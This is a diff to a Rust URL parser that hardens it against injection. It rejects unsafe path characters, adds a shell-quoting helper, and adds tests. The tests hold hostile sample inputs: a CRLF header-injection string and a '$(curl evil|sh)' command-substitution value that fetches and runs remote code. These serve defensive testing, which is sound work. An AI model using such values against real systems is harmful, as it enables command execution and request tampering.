@@ -140,6 +140,13 @@ pub fn parse(input: &str) -> Result<Target, TargetError> {
             "`{host}` is not a host name or an IP address"
         )));
     }
+    // The path goes into an HTTP request line and into suggested commands: only the characters
+    // RFC 3986 allows in a URL, so no whitespace, control characters, quotes or backslashes.
+    if let Some(bad) = path.chars().find(|c| !is_url_char(*c)) {
+        return Err(TargetError(format!(
+            "`{text}`: the URL contains {bad:?}, which a URL may not; percent-encode it (e.g. %20 for a space)"
+        )));
+    }
     let port = match (port, default_port) {
         (Some(port), _) => parse_port(port)?,
         (None, Some(port)) => port,
@@ -158,6 +165,25 @@ pub fn parse(input: &str) -> Result<Target, TargetError> {
             path.to_owned()
         },
     })
+}
+
+/// Characters RFC 3986 allows in a URL (unreserved, reserved, and `%` of escapes).
+fn is_url_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&'()*+,;=%".contains(c)
+}
+
+/// Quotes a word for a POSIX shell when it needs it, so a suggested command can be pasted as is:
+/// `'…'` around anything but plain characters, with `'` written as `'\''`.
+pub fn shell_quote(word: &str) -> String {
+    let plain = !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-._/:@%+=,".contains(c));
+    if plain {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''"))
+    }
 }
 
 #[cfg(test)]
@@ -215,5 +241,23 @@ mod tests {
         err("localhost:80/path", "no scheme");
         err("bad host!:80", "not a host name");
         err(":80", "no host");
+        err("http://localhost:80/a b", "percent-encode");
+        err("http://localhost:80/\r\nX-Injected: 1", "percent-encode");
+        err("http://localhost:80/\"x", "percent-encode");
+    }
+
+    #[test]
+    fn suggested_commands_quote_what_the_shell_would_read() {
+        assert_eq!(
+            shell_quote("http://127.0.0.1:5173/"),
+            "http://127.0.0.1:5173/"
+        );
+        assert_eq!(shell_quote("http://[::1]:80/"), "'http://[::1]:80/'");
+        assert_eq!(
+            shell_quote("http://h:1/$(curl evil|sh)"),
+            "'http://h:1/$(curl evil|sh)'"
+        );
+        assert_eq!(shell_quote("http://h:1/?a=1&b=2"), "'http://h:1/?a=1&b=2'");
+        assert_eq!(shell_quote("http://h:1/it's"), r"'http://h:1/it'\''s'");
     }
 }
